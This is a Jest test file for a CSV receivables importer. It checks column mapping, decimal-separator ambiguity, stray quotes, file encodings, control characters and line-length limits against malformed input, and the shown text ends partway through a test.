import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import type { ReceivablesImport, Receivable } from '@invoicing/invoice';
import { checkCsvEncoding } from './csv-decoder';
import { ErrorReportWriter, checkCsvFile, detectDelimiter, importReceivablesCsv, readCsvRows, type RowReport } from './receivables-csv';
import { CsvError, ambiguousAmount, columnKey, columnLayout, isoDate, parseMapping, plainDecimal } from './receivables-mapping';

const HEADER = 'Invoice #,Customer Name,Invoice Date,Customer Terms,Bill Total,Amount Applied,Status,Currency';

/** A stand-in for the domain's import: it records what it is given and imports everything (the domain's own tests cover the rest). */
class RecordingImport {
  readonly received: Receivable[] = [];

  async importBatch(receivables: readonly Receivable[]) {
    this.received.push(...receivables);
    return receivables.map(() => ({ outcome: 'imported' as const, changes: [], problems: [] }));
  }
}

async function run(text: string | Buffer, options: Parameters<typeof importReceivablesCsv>[2] = {}) {
  const importer = new RecordingImport();
  const rows: RowReport[] = [];
  // Fed in 7-byte chunks: rows, quotes and the BOM split across chunks must read the same.
  const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text);
  const chunks = Array.from({ length: Math.ceil(bytes.length / 7) }, (_, index) => bytes.subarray(index * 7, index * 7 + 7));
  const report = await importReceivablesCsv(Readable.from(chunks), importer as unknown as ReceivablesImport, { ...options, onRow: (row) => void rows.push(row) });
  return { report, rows, received: importer.received };
}

describe('column names', () => {
  it('match whatever the case, spacing and punctuation, with # read as "number"', () => {
    expect(['Invoice #', 'invoice_number', 'InvoiceNumber', 'INVOICE NO.'].map(columnKey)).toEqual(['invoicenumber', 'invoicenumber', 'invoicenumber', 'invoiceno']);
    expect(columnLayout(['invoice_number', 'CUSTOMER', 'Txn Date', 'Due Date', 'Amount', 'Status', 'Currency', 'Memo']).fields).toEqual([
      'invoiceNumber', 'customerName', 'invoiceDate', 'dueDate', 'total', 'status', 'currency', undefined,
    ]);
  });

  it('refuses a file without a required column, naming each one missing', () => {
    expect(() => columnLayout(['Invoice #', 'Customer'])).toThrow(
      expect.objectContaining({ code: 'csv.missing_columns', details: expect.objectContaining({ missing: ['invoiceDate', 'total', 'status', 'currency', 'dueDate'] }) }),
    );
    // A default currency stands in for the column.
    expect(() => columnLayout(HEADER.replace(',Currency', '').split(','), { currency: 'USD' })).not.toThrow();
  });

  it('refuses two columns for one field, and takes the mapping over the usual names', () => {
    expect(() => columnLayout(['Invoice #', 'Number', 'Customer', 'Date', 'Terms', 'Total', 'Status', 'Currency'])).toThrow(expect.objectContaining({ code: 'csv.duplicate_column' }));
    const layout = columnLayout(['Ref', 'Client', 'Date', 'Terms', 'Total', 'Status', 'Currency', 'Number'], { columns: { Ref: 'invoiceNumber', Number: 'purchaseOrder' } });
    expect(layout.fields[0]).toBe('invoiceNumber');
    expect(layout.fields[7]).toBe('purchaseOrder');
  });
});

describe('mappings', () => {
  it('are read from YAML or JSON and checked', () => {
    expect(parseMapping('columns:\n  Ref: invoiceNumber\ndateFormat: DD.MM.YYYY\ndecimalSeparator: ","\ndelimiter: ";"\ncurrency: EUR\n')).toEqual({
      columns: { Ref: 'invoiceNumber' },
      dateFormat: 'DD.MM.YYYY',
      decimalSeparator: ',',
      delimiter: ';',
      currency: 'EUR',
    });
    expect(parseMapping('{"dateFormat": "MM/DD/YYYY"}')).toEqual({ dateFormat: 'MM/DD/YYYY' });
    for (const bad of ['columns: {Ref: invoice_no}', 'dateFormat: D/M/Y', 'currency: EURO', 'delimiter: "|"', 'colums: {}', '- a list', ': : :']) {
      expect(() => parseMapping(bad)).toThrow(CsvError);
    }
  });

  it('convert the date and amount forms they name, and only those', () => {
    expect(isoDate('3/5/2024', 'MM/DD/YYYY')).toBe('2024-03-05');
    expect(isoDate('3/5/2024', 'DD/MM/YYYY')).toBe('2024-05-03');
    expect(isoDate('05.03.2024', 'DD.MM.YYYY')).toBe('2024-03-05');
    expect(isoDate('2024-03-05', 'MM/DD/YYYY')).toBe('2024-03-05');
    // Without a form, 03/05/2024 is ambiguous: given back as it is, to be refused.
    expect(isoDate('03/05/2024')).toBe('03/05/2024');
    expect(plainDecimal('1,234,567.89')).toBe('1234567.89');
    expect(plainDecimal('1.234,56', ',')).toBe('1234.56');
    expect(plainDecimal('12,5', ',')).toBe('12.5');
    expect(plainDecimal('1.234', ',')).toBe('1234');
    // With a decimal comma, a dot only groups thousands: `12.5` is in neither form, and not read as 12.5.
    expect(plainDecimal('12.5', ',')).toBeUndefined();
    expect(plainDecimal('1.5,00', ',')).toBeUndefined();
    // A comma that is not a thousands separator is not guessed away.
    expect(plainDecimal('12,5')).toBe('12,5');
    expect(plainDecimal('1,23.45')).toBe('1,23.45');
  });
});

describe('reading a file', () => {
  it('finds the delimiter from the header line', () => {
    expect(detectDelimiter('a;b;c')).toBe(';');
    expect(detectDelimiter('a\tb\tc')).toBe('\t');
    expect(detectDelimiter('"a;b",c,d')).toBe(',');
    expect(detectDelimiter('single')).toBe(',');
  });

  it('reads a BOM, quoted commas, quoted newlines and doubled quotes, and numbers rows as a spreadsheet does', async () => {
    const text = `\uFEFF${HEADER}\r\n1,"Acme, Inc.",2024-01-02,Net 30,10.00,0,Pending,USD\r\n\r\n2,"The ""Best""\nCafe",2024-01-03,Net 30,20.00,20.00,Closed,USD\r\n3,Solo,2024-01-04,Net 30,30.00,0,Pending,USD`;
    const { report, received, rows } = await run(text);
    expect(report).toMatchObject({ rowsRead: 3, imported: 3, refused: 0 });
    expect(received.map((item) => item.customerName)).toEqual(['Acme, Inc.', 'The "Best"\nCafe', 'Solo']);
    // The empty line is skipped, yet a spreadsheet shows it as row 3; the quoted line break stays in row 4.
    expect(rows.map((row) => row.row)).toEqual([2, 4, 5]);
  });

  it('reads a file whose lines end with a lone carriage return, as older Mac exports write them', async () => {
    const text = `${HEADER}\r1,"Acme, Inc.",2024-01-02,Net 30,10.00,0,Pending,USD\r\r2,"Solo\rCafe",2024-01-03,Net 30,20.00,20.00,Closed,USD\r`;
    const { rows, received } = await run(text);
    expect(rows.map((row) => [row.row, row.outcome])).toEqual([[2, 'imported'], [4, 'imported']]);
    expect(received.map((receivable) => receivable.customerName)).toEqual(['Acme, Inc.', 'Solo\rCafe']);
  });

  it('refuses a file with a line longer than any row, as one it cannot read', async () => {
    await expect(run(`${HEADER}\n1,${'x'.repeat(1 << 21)}\n`)).rejects.toMatchObject({ code: 'csv.malformed' });
  });

  it('reads `;` files with the mapping\'s decimal comma and day-first dates', async () => {
    const text = 'Rechnung;Kunde;Datum;Zahlungsbedingungen;Betrag;Bezahlt;Status\nR-1;Müller GmbH;05.03.2024;Net 30;1.234,56;234,56;Pending\n';
    const mapping = parseMapping('columns: {Rechnung: invoiceNumber, Kunde: customerName, Datum: invoiceDate, Zahlungsbedingungen: terms, Betrag: total, Bezahlt: applied}\ndateFormat: DD.MM.YYYY\ndecimalSeparator: ","\ncurrency: EUR');
    const { received } = await run(text, { mapping });
    expect(received).toHaveLength(1);
    expect(received[0]).toMatchObject({ invoiceNumber: 'R-1', customerName: 'Müller GmbH', invoiceDate: '2024-03-05', dueDate: '2024-04-04' });
    expect(received[0]?.total.toJSON()).toEqual({ amount: '1234.56', currency: 'EUR' });
  });

  it('refuses an amount whose dot groups no thousands when the mapping declares a decimal comma', async () => {
    const text = ['Rechnung;Kunde;Datum;Zahlungsbedingungen;Betrag;Bezahlt;Status', 'R-1;Müller GmbH;05.03.2024;Net 30;12.5;0;Pending', 'R-2;Müller GmbH;05.03.2024;Net 30;100,00;1.5;Pending', 'R-3;Müller GmbH;05.03.2024;Net 30;1.500;0;Pending'].join('\n');
    const mapping = parseMapping('columns: {Rechnung: invoiceNumber, Kunde: customerName, Datum: invoiceDate, Zahlungsbedingungen: terms, Betrag: total, Bezahlt: applied}\ndateFormat: DD.MM.YYYY\ndecimalSeparator: ","\ncurrency: EUR');
    const { report, rows, received } = await run(text, { mapping });
    expect(report).toMatchObject({ rowsRead: 3, imported: 1, refused: 2 });
    expect(rows.map((row) => [row.row, row.outcome, row.problems.map((problem) => `${problem.column ?? '-'}:${problem.code}`)])).toEqual([
      [2, 'refused', ['Betrag:csv.decimal_separator']],
      [3, 'refused', ['Bezahlt:csv.decimal_separator']],
      [4, 'imported', []],
    ]);
    expect(rows[0]?.problems[0]?.message).toContain('12.5');
    expect(received.map((r) => r.total.toJSON().amount)).toEqual(['1500.00']);
  });

  it('refuses an amount that reads two ways in a currency with three decimals when no decimal separator is named (audit of the CSV import, finding 2)', async () => {
    // Before, 12,500 KWD was read as 12500.000 (a decimal-comma export means 12.500), and nothing warned.
    const text = [
      HEADER,
      'K1,Acme,2025-01-01,Net 30,"12,500","12,500",Closed,KWD',
      'K2,Acme,2025-01-01,Net 30,"999,999","500,000",Pending,KWD',
      'B1,Acme,2025-01-01,Net 30,"1,234",0,Pending,BHD',
      // Two thousands groups, or a decimal point with a thousands comma: one reading only.
      'K3,Acme,2025-01-01,Net 30,"1,234,567",0,Pending,KWD',
      'K4,Acme,2025-01-01,Net 30,"12,500.000",0,Pending,KWD',
      // With two decimals too (audit `files`, F3): 12,500 is 12500, or 12.500 written with trailing zeros, which a
      // currency's precision lets through; 12.500 likewise.
      'U1,Acme,2025-01-01,Net 30,"12,500",0,Pending,USD',
      'K5,Acme,2025-01-01,Net 30,"12,500.000","12.500",Pending,KWD',
    ].join('\n');
    const { report, rows, received } = await run(text);
    expect(report).toMatchObject({ rowsRead: 7, imported: 2, refused: 5 });
    expect(rows.map((row) => [row.row, row.outcome, row.problems.map((problem) => `${problem.column ?? '-'}:${problem.code}`)])).toEqual([
      [2, 'refused', ['Bill Total:csv.ambiguous_amount', 'Amount Applied:csv.ambiguous_amount']],
      [3, 'refused', ['Bill Total:csv.ambiguous_amount', 'Amount Applied:csv.ambiguous_amount']],
      [4, 'refused', ['Bill Total:csv.ambiguous_amount']],
      [5, 'imported', []],
      [6, 'imported', []],
      [7, 'refused', ['Bill Total:csv.ambiguous_amount']],
      [8, 'refused', ['Amount Applied:csv.ambiguous_amount']],
    ]);
    expect(rows[0]?.problems[0]?.message).toContain('12,500');
    expect(received.map((receivable) => `${receivable.total.toString()} ${receivable.total.currency}`)).toEqual(['1234567.000 KWD', '12500.000 KWD']);
    // The mapping's separator decides, as for any amount; a default currency is read the same way.
    const byComma = await run(text.split('\n').slice(0, 4).join('\n'), { mapping: { decimalSeparator: ',' } });
    expect(byComma.received.map((receivable) => [receivable.total.toString(), receivable.applied.toString()])).toEqual([
      ['12.500', '12.500'],
      ['999.999', '500.000'],
      ['1.234', '0.000'],
    ]);
    const byDot = await run(text.split('\n').slice(0, 4).join('\n'), { mapping: { decimalSeparator: '.' } });
    expect(byDot.received.map((receivable) => receivable.total.toString())).toEqual(['12500.000', '999999.000', '1234.000']);
    const byDefault = await run(`${HEADER.replace(',Currency', '')}\nK1,Acme,2025-01-01,Net 30,"12,500",0,Pending\n`, { mapping: { currency: 'KWD' } });
    expect(byDefault.rows.map((row) => row.problems.map((problem) => problem.code))).toEqual([['csv.ambiguous_amount']]);
  });

  it('refuses, when the mapping names no separator, an amount that reads as thousands or as decimals, whatever the currency (audit `files`, F3)', async () => {
    // Before, a decimal-comma export's 1.500 EUR was recorded as 1.50 (its trailing zeros pass EUR's precision), 12.000
    // as 12.00, and 2.500 paid as 2.50; only 1.234 was refused, and once the separator was named those invoices stayed
    // wrong (import.conflict).
    const text = [
      HEADER,
      'E1,Müller GmbH,2024-01-02,Net 30,1.500,0,Pending,EUR',
      'E2,Müller GmbH,2024-01-02,Net 30,12.000,0,Pending,EUR',
      'E3,Müller GmbH,2024-01-02,Net 30,1.234,0,Pending,EUR',
      'E5,Müller GmbH,2024-01-02,Net 30,2.500,2.500,Closed,EUR',
      'U1,Acme,2024-01-02,Net 30,"1,500",0,Pending,USD',
      'J1,Acme,2024-01-02,Net 30,12.000,0,Pending,JPY',
      'K1,Acme,2024-01-02,Net 30,12.500,0,Pending,KWD',
      'N1,Acme,2024-01-02,Net 30,-1.500,0,Pending,EUR',
    ].join('\n');
    const { report, rows, received } = await run(text);
    expect(report).toMatchObject({ rowsRead: 8, imported: 0, refused: 8 });
    expect(received).toEqual([]);
    expect(rows.map((row) => [row.invoiceNumber, row.problems.map((problem) => `${problem.column}:${problem.code}`)])).toEqual([
      ['E1', ['Bill Total:csv.ambiguous_amount']],
      ['E2', ['Bill Total:csv.ambiguous_amount']],
      ['E3', ['Bill Total:csv.ambiguous_amount']],
      ['E5', ['Bill Total:csv.ambiguous_amount', 'Amount Applied:csv.ambiguous_amount']],
      ['U1', ['Bill Total:csv.ambiguous_amount']],
      ['J1', ['Bill Total:csv.ambiguous_amount']],
      ['K1', ['Bill Total:csv.ambiguous_amount']],
      ['N1', ['Bill Total:csv.ambiguous_amount']],
    ]);
    expect(rows[0]?.problems[0]?.message).toBe('1.500 reads as 1.500 or as 1500: name the decimal separator in the mapping (decimalSeparator "." or ",", decimal_separator over the API)');
    expect(rows[4]?.problems[0]?.message).toContain('1,500 reads as 1.500 or as 1500:');
    // The separator named, the file's form decides.
    const byComma = await run(text, { mapping: { decimalSeparator: ',' } });
    expect(byComma.received.map((receivable) => `${receivable.invoiceNumber} ${receivable.total.toString()} ${receivable.applied.toString()}`)).toEqual([
      'E1 1500.00 0.00',
      'E2 12000.00 0.00',
      'E3 1234.00 0.00',
      'E5 2500.00 2500.00',
      'U1 1.50 0.00',
      'J1 12000 0',
      'K1 12500.000 0.000',
    ]);
    const byDot = await run(text, { mapping: { decimalSeparator: '.' } });
    expect(byDot.received.map((receivable) => `${receivable.invoiceNumber} ${receivable.total.toString()}`)).toEqual(['E1 1.50', 'E2 12.00', 'E5 2.50', 'U1 1500.00', 'J1 12', 'K1 12.500']);
  });

  it('reads, when the mapping names no separator, the amounts whose form gives them one reading', async () => {
    // A single separator followed by three digits is the only form both separators write alike.
    expect(['1.500', '12.000', '1.234', '999.999', '1,500', '12,500', '-1.500', ' 2.500 '].filter((value) => !ambiguousAmount(value))).toEqual([]);
    // Two separators, another count of digits after one, a leading 0 (no thousands group starts with it), no separator.
    expect(['1.50', '1,234.56', '1.234,56', '1,234,567', '1.234.567', '12,500.000', '0.500', '0,500', '1234.500', '1.5', '1.5000', '1500', '', 'abc'].filter(ambiguousAmount)).toEqual([]);
    const text = [
      HEADER,
      'A1,Acme,2024-01-02,Net 30,1.50,0,Pending,EUR',
      'A2,Acme,2024-01-02,Net 30,"1,234.56",0,Pending,USD',
      'A3,Acme,2024-01-02,Net 30,"1,234,567",0,Pending,USD',
      'A4,Acme,2024-01-02,Net 30,0.500,0,Pending,KWD',
      'A5,Acme,2024-01-02,Net 30,1234.500,0,Pending,EUR',
      'A6,Acme,2024-01-02,Net 30,1500,1.5,Pending,EUR',
      'A7,Acme,2024-01-02,Net 30,"12,500.000",0,Pending,KWD',
      // One reading, but not the default's form: refused as malformed, as before.
      'B1,Acme,2024-01-02,Net 30,"1.234,56",0,Pending,EUR',
      'B2,Acme,2024-01-02,Net 30,1.234.567,0,Pending,EUR',
      'B3,Acme,2024-01-02,Net 30,"0,500",0,Pending,KWD',
    ].join('\n');
    const { rows, received } = await run(text);
    expect(received.map((receivable) => `${receivable.invoiceNumber} ${receivable.total.toString()} ${receivable.applied.toString()}`)).toEqual([
      'A1 1.50 0.00',
      'A2 1234.56 0.00',
      'A3 1234567.00 0.00',
      'A4 0.500 0.000',
      'A5 1234.50 0.00',
      'A6 1500.00 1.50',
      'A7 12500.000 0.000',
    ]);
    expect(rows.filter((row) => row.outcome === 'refused').map((row) => [row.invoiceNumber, row.problems.map((problem) => problem.code)])).toEqual([
      ['B1', ['money.malformed']],
      ['B2', ['money.malformed']],
      ['B3', ['money.malformed']],
    ]);
  });

  it('reports each bad row with its row, column and reason, and goes on with the good ones', async () => {
    const text = [
      HEADER,
      '1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD',
      '2,Acme,03/01/2024,Net 30,-5.00,0,Pending,USD',
      '3,Acme,2024-01-02,Net 30,10.00',
      '4,Acme,2024-01-02,Net 30,"10.00,0,Pending,USD',
      '5,Acme,2024-01-02,Net 30,10.00,0,Pending,USD',
    ].join('\n');
    const { report, rows } = await run(text);
    expect(report).toMatchObject({ rowsRead: 5, imported: 2, refused: 3 });
    expect(rows.map((row) => [row.row, row.outcome, row.problems.map((problem) => `${problem.column ?? '-'}:${problem.code}`)])).toEqual([
      [2, 'imported', []],
      [3, 'refused', ['Invoice Date:date.malformed', 'Bill Total:import.negative_amount']],
      [4, 'refused', ['-:csv.column_count']],
      // The stray quote is refused on its own row; before, it ran to the end of the file and took row 6 with it.
      [5, 'refused', ['-:csv.malformed_row']],
      [6, 'imported', []],
    ]);
  });

  it('refuses a stray quote as its own row, keeping its text, and reads every row after it (audit of the CSV import, finding 1)', async () => {
    // Before, the quote opened on S2 ran to the quote of S5: S3, S4 and S5 were in no outcome, S6 was numbered row 4,
    // and the refused row had no values.
    const text = [
      HEADER,
      'S1,Acme,2025-01-01,Net 30,100.00,0,Pending,USD',
      'S2,"Acme Inc,2025-01-01,Net 30,200.00,0,Pending,USD',
      'S3,Acme,2025-01-01,Net 30,300.00,0,Pending,USD',
      'S4,Acme,2025-01-01,Net 30,400.00,0,Pending,USD',
      'S5,"Beta, Inc.",2025-01-01,Net 30,500.00,0,Pending,USD',
      'S6,Acme,2025-01-01,Net 30,600.00,0,Pending,USD',
    ].join('\n');
    const { report, rows, received } = await run(text);
    expect(report).toMatchObject({ rowsRead: 6, imported: 5, refused: 1 });
    expect(rows.map((row) => [row.row, row.outcome, row.problems.map((problem) => problem.code)])).toEqual([
      [2, 'imported', []],
      [3, 'refused', ['csv.malformed_row']],
      [4, 'imported', []],
      [5, 'imported', []],
      [6, 'imported', []],
      [7, 'imported', []],
    ]);
    expect(rows[1]?.values).toEqual(['S2', '"Acme Inc', '2025-01-01', 'Net 30', '200.00', '0', 'Pending', 'USD']);
    expect(received.map((receivable) => [receivable.invoiceNumber, receivable.customerName, receivable.total.toString()])).toEqual([
      ['S1', 'Acme', '100.00'],
      ['S3', 'Acme', '300.00'],
      ['S4', 'Acme', '400.00'],
      ['S5', 'Beta, Inc.', '500.00'],
      ['S6', 'Acme', '600.00'],
    ]);
  });

  it('reads the rows a stray quote would swallow as rows of their own, even when a second stray quote closes it', async () => {
    // S2's quote closes at S4's customer: read as CSV, S2 to S4 are one record with as many values as the header,
    // S2's number with S4's amounts.
    const text = [
      HEADER,
      'S1,Acme,2025-01-01,Net 30,100.00,0,Pending,USD',
      'S2,"Acme Inc,2025-01-01,Net 30,200.00,0,Pending,USD',
      'S3,Acme,2025-01-01,Net 30,300.00,0,Pending,USD',
      'S4,Beta",2025-01-01,Net 30,400.00,0,Pending,USD',
      'S5,Acme,2025-01-01,Net 30,500.00,0,Pending,USD',
    ].join('\r\n');
    const { rows, received } = await run(text);
    expect(rows.map((row) => [row.row, row.outcome, row.problems.map((problem) => problem.code)])).toEqual([
      [2, 'imported', []],
      [3, 'refused', ['csv.malformed_row']],
      [4, 'imported', []],
      [5, 'refused', ['csv.malformed_row']],
      [6, 'imported', []],
    ]);
    expect(rows[3]?.values).toEqual(['S4', 'Beta"', '2025-01-01', 'Net 30', '400.00', '0', 'Pending', 'USD']);
    expect(received.map((receivable) => receivable.invoiceNumber)).toEqual(['S1', 'S3', 'S5']);
  });

  it('refuses a file whose header line cannot be read, before any row', async () => {
    await expect(run(`${HEADER.replace('Customer Name', '"Customer Name')}\n1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD\n`)).rejects.toMatchObject({ code: 'csv.malformed' });
  });

  it('refuses an empty file and a file without the required columns before reading any row', async () => {
    await expect(run('')).rejects.toMatchObject({ code: 'csv.empty' });
    await expect(run('Invoice #,Customer\n1,Acme\n')).rejects.toMatchObject({ code: 'csv.missing_columns' });
  });

  it('stops between two batches when asked, and says so', async () => {
    const controller = new AbortController();
    const lines = Array.from({ length: 10 }, (_, index) => `${index},Acme,2024-01-02,Net 30,10.00,0,Pending,USD`);
    const { report } = await run([HEADER, ...lines].join('\n'), {
      batchSize: 3,
      signal: controller.signal,
      onProgress: (progress) => {
        if (progress.rowsRead >= 6) controller.abort();
      },
    });
    expect(report).toMatchObject({ rowsRead: 6, imported: 6, stopped: true });
  });

  it('streams rows without holding the file', async () => {
    const rows: unknown[] = [];
    for await (const item of readCsvRows(Readable.from([`${HEADER}\n`, '1,A,2024-01-02,Net 30,1.00,0,Pending,USD\n']))) rows.push(item);
    expect(rows).toEqual([{ header: HEADER.split(','), delimiter: ',' }, { row: 2, values: ['1', 'A', '2024-01-02', 'Net 30', '1.00', '0', 'Pending', 'USD'] }]);
  });
});

describe('the file\'s encoding (audit `files`, F1 and F4)', () => {
  const row = (number: string, customer: string) => `${number},${customer},2024-01-02,Net 30,10.00,0,Pending,EUR`;
  const utf8 = [HEADER, row('M1', 'Café Müller'), ''].join('\n');
  /** M1 in UTF-8, M2 the same name in Latin-1 (Windows Excel's "CSV"), as a file pasted together from two exports. */
  const mixed = Buffer.concat([Buffer.from(utf8), Buffer.from(`${row('M2', 'Café Müller')}\n`, 'latin1')]);
  const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16();

  it('refuses a file that is not UTF-8, naming its line, before its rows are imported', async () => {
    // Before, each byte that is not UTF-8 became U+FFFD and the row was imported: a second, corrupted customer
    // "Caf\uFFFD M\uFFFDller" beside "Café Müller", with M2's invoice under it.
    const refused = await run(mixed).catch((error: unknown) => error);
    expect(refused).toBeInstanceOf(CsvError);
    expect(refused).toMatchObject({ code: 'csv.not_utf8', details: { line: 3, byteOffset: Buffer.byteLength(utf8) + Buffer.byteLength('M2,Caf') } });
    expect((refused as Error).message).toBe('the file is not UTF-8: byte 0xe9 on line 3 is not UTF-8 text (a file saved as Latin-1 or Windows-1252?); save it as UTF-8 ("CSV UTF-8" in Excel)');
    await expect(run(Buffer.from(`${HEADER}\n${row('L1', 'Café Müller')}\n`, 'latin1'))).rejects.toMatchObject({ code: 'csv.not_utf8', details: { line: 2 } });
    // A character cut off by the end of the file, and a UTF-8 encoded surrogate (CESU-8), are no UTF-8 either.
    await expect(run(Buffer.concat([Buffer.from(`${HEADER}\n${row('T1', 'Acme')},`), Buffer.from([0xe2, 0x82])]))).rejects.toMatchObject({ code: 'csv.not_utf8', details: { line: 2 } });
    await expect(run(Buffer.concat([Buffer.from(`${HEADER}\nS1,`), Buffer.from([0xed, 0xa0, 0x80])]))).rejects.toMatchObject({ code: 'csv.not_utf8' });
    const received: unknown[] = [];
    const importer = { importBatch: async (receivables: readonly Receivable[]) => (received.push(...receivables), receivables.map(() => ({ outcome: 'imported' as const, changes: [], problems: [] }))) };
    await expect(importReceivablesCsv(Readable.from([mixed]), importer as unknown as ReceivablesImport)).rejects.toMatchObject({ code: 'csv.not_utf8' });
    expect(received).toEqual([]);
  });

  it('checks a whole file at once, as the API does before it answers', () => {
    expect(() => checkCsvEncoding(mixed)).toThrow(expect.objectContaining({ code: 'csv.not_utf8', details: { line: 3, byteOffset: Buffer.byteLength(utf8) + Buffer.byteLength('M2,Caf') } }));
    expect(() => checkCsvEncoding(Buffer.from(`\uFEFF${utf8}`))).not.toThrow();
    expect(() => checkCsvEncoding(Buffer.from(`\uFEFF${utf8}`, 'utf16le'))).not.toThrow();
    expect(() => checkCsvEncoding(utf16be(`\uFEFF${utf8}`))).not.toThrow();
    expect(() => checkCsvEncoding(Buffer.from(utf8, 'utf16le'))).toThrow(expect.objectContaining({ code: 'csv.not_utf8' }));
    // A UTF-16 file with its mark, and half a surrogate pair in it.
    expect(() => checkCsvEncoding(Buffer.concat([Buffer.from(`\uFEFF${HEADER}\n`, 'utf16le'), Buffer.from([0x3d, 0xd8, 0x41, 0x00])]))).toThrow(
      expect.objectContaining({ code: 'csv.not_utf8' }),
    );
    expect(() => checkCsvEncoding(Buffer.alloc(0))).not.toThrow();
    // Its line counted across packed line breaks (empty lines) and sparse ones, as the reader counts it too.
    const packed = Buffer.concat([Buffer.from(`${HEADER}\n${'\n'.repeat(100_000)}${`${'x'.repeat(40)}\n`.repeat(5_000)}`), Buffer.from('Café\n', 'latin1')]);
    expect(() => checkCsvEncoding(packed)).toThrow(expect.objectContaining({ code: 'csv.not_utf8', details: expect.objectContaining({ line: 105_002 }) }));
  });

  it('reads a UTF-16 file with its byte-order mark (Excel\'s "Unicode text", tab separated) as the same file in UTF-8', async () => {
    // Before, the bytes were read as UTF-8: the header was a row of NULs, and the API answered 500.
    const text = `\uFEFF${HEADER.replaceAll(',', '\t')}\r\n${row('U1', 'Café Müller 🧾').replaceAll(',', '\t')}\r\n${row('U2', 'Ölwerke').replaceAll(',', '\t')}\r\n`;
    for (const bytes of [Buffer.from(text, 'utf16le'), utf16be(text)]) {
      const { report, received } = await run(bytes);
      expect(report).toMatchObject({ rowsRead: 2, imported: 2, refused: 0 });
      expect(received.map((receivable) => [receivable.invoiceNumber, receivable.customerName, receivable.total.toString()])).toEqual([
        ['U1', 'Café Müller 🧾', '10.00'],
        ['U2', 'Ölwerke', '10.00'],
      ]);
    }
    const read: unknown[] = [];
    for await (const item of readCsvRows(Readable.from([Buffer.from(text, 'utf16le')]))) read.push(item);
    expect(read[0]).toEqual({ header: HEADER.split(','), delimiter: '\t' });
  });

  it('refuses UTF-16 without its byte-order mark, and UTF-32, whose text would read as NULs between letters', async () => {
    await expect(run(Buffer.from(utf8, 'utf16le'))).rejects.toMatchObject({ code: 'csv.not_utf8', message: expect.stringContaining('UTF-16') });
    await expect(run(utf16be(utf8))).rejects.toMatchObject({ code: 'csv.not_utf8', message: expect.stringContaining('UTF-16') });
    const utf32 = Buffer.alloc(4 * (utf8.length + 1));
    [...`\uFEFF${utf8}`].forEach((char, index) => utf32.writeUInt32LE(char.codePointAt(0) as number, index * 4));
    await expect(run(utf32)).rejects.toMatchObject({ code: 'csv.not_utf8', message: expect.stringContaining('UTF-32') });
  });
});

describe('NUL and other control characters (audit `files`, F4)', () => {
  const header = `${HEADER},Memo`;

  it('refuses a header holding a control character, before any row, without repeating it', async () => {
    // Before, the header was kept as it was, and storing it (PostgreSQL under FerretDB) answered 500.
    const refused = await run(`${header}\u0000X\n1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD,x\n`).catch((error: unknown) => error);
    expect(refused).toMatchObject({ code: 'csv.malformed', details: { column: 9 } });
    expect((refused as Error).message).toBe('the file cannot be read as CSV: its header holds a control character (U+0000) in column 9, "Memo␀X": is it a text file?');
    await expect(run(`${HEADER.replace('Status', 'Sta\u0007tus')}\n`)).rejects.toMatchObject({ code: 'csv.malformed' });
  });

  it('refuses a row with a NUL in any cell, naming the column once, and goes on with the others', async () => {
    // Before, a NUL in a column the import ignores went through, and in an amount it was only "malformed".
    const text = [
      header,
      'N1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD,copied from\u0000legacy',
      'N2,Nul\u0000Co,2024-01-02,Net 30,10.00,0,Pending,USD,',
      'N3,Acme,2024-01-02,Net 30,10\u0000.00,0,Pending,USD,',
      'N4,Acme,2024-01-02,Net 30,-10.00,0,Pending,USD,a\u0000b',
      'N\u00005,Acme,2024-01-02,Net 30,10.00,0,Pending,USD,',
      'N6,Acme,2024-01-02,Net 30,10.00,0,Pending,USD,tab\tand \u0007 bell kept',
    ].join('\n');
    const { report, rows, received } = await run(text);
    expect(report).toMatchObject({ rowsRead: 6, imported: 1, refused: 5 });
    expect(rows.map((each) => [each.row, each.outcome, each.problems.map((problem) => `${problem.column}:${problem.code}`)])).toEqual([
      [2, 'refused', ['Memo:text.control_character']],
      [3, 'refused', ['Customer Name:text.control_character']],
      [4, 'refused', ['Bill Total:text.control_character']],
      [5, 'refused', ['Bill Total:import.negative_amount', 'Memo:text.control_character']],
      [6, 'refused', ['Invoice #:text.control_character']],
      [7, 'imported', []],
    ]);
    expect(rows[0]?.problems[0]?.message).toBe('holds a NUL character (U+0000), which no text may: was the file saved as text?');
    expect(rows[4]?.invoiceNumber).toBeUndefined();
    expect(received.map((receivable) => receivable.invoiceNumber)).toEqual(['N6']);
  });
});

describe('bounds of a file (audit `dos`, DOS-3)', () => {
  /** Every item the reader gives for a file handed over whole, in one chunk, as the API hands a request's body. */
  async function readWhole(text: string, as: 'buffer' | 'string' = 'buffer') {
    const items: unknown[] = [];
    for await (const item of readCsvRows(Readable.from([as === 'buffer' ? Buffer.from(text) : text]))) items.push(item);
    return items;
  }
  /** A header line of the usual columns followed by unknown ones (`x0,x1,…`), `size` characters long at least. */
  function wideHeader(size: number, base = HEADER): string {
    const extra: string[] = [];
    for (let length = base.length; length < size; length += `,x${extra.length}`.length) extra.push(`x${extra.length}`);
    return [base, ...extra].join(',');
  }

  it('refuses a line longer than 1 MiB that starts and ends inside one chunk, the header or a row', async () => {
    // Before, only the unfinished tail of a chunk was measured: a 4 MiB header sent over the API was read whole (538,185
    // columns), echoed in the problem, and stored in the job past MongoDB's 16 MB.
    const outcome = (reading: Promise<unknown[]>) =>
      reading.then(
        (items) => `read, ${items.length} items`,
        (error: CsvError) => ({ code: error.code, details: error.details }),
      );
    for (const as of ['buffer', 'string'] as const) {
      const header = await outcome(readWhole(`${wideHeader(2 << 20)}\n1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD\n`, as));
      expect([as, header]).toEqual([as, { code: 'csv.malformed', details: { line: 1, maxLineLength: 1 << 20 } }]);
      const row = await outcome(readWhole(`${HEADER}\n1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD\n2,${'y'.repeat(1 << 20)},2024-01-02,Net 30,10.00,0,Pending,USD\n`, as));
      expect([as, row]).toEqual([as, { code: 'csv.malformed', details: { line: 3, maxLineLength: 1 << 20 } }]);
    }
    // The same file in 7-byte chunks is refused the same way.
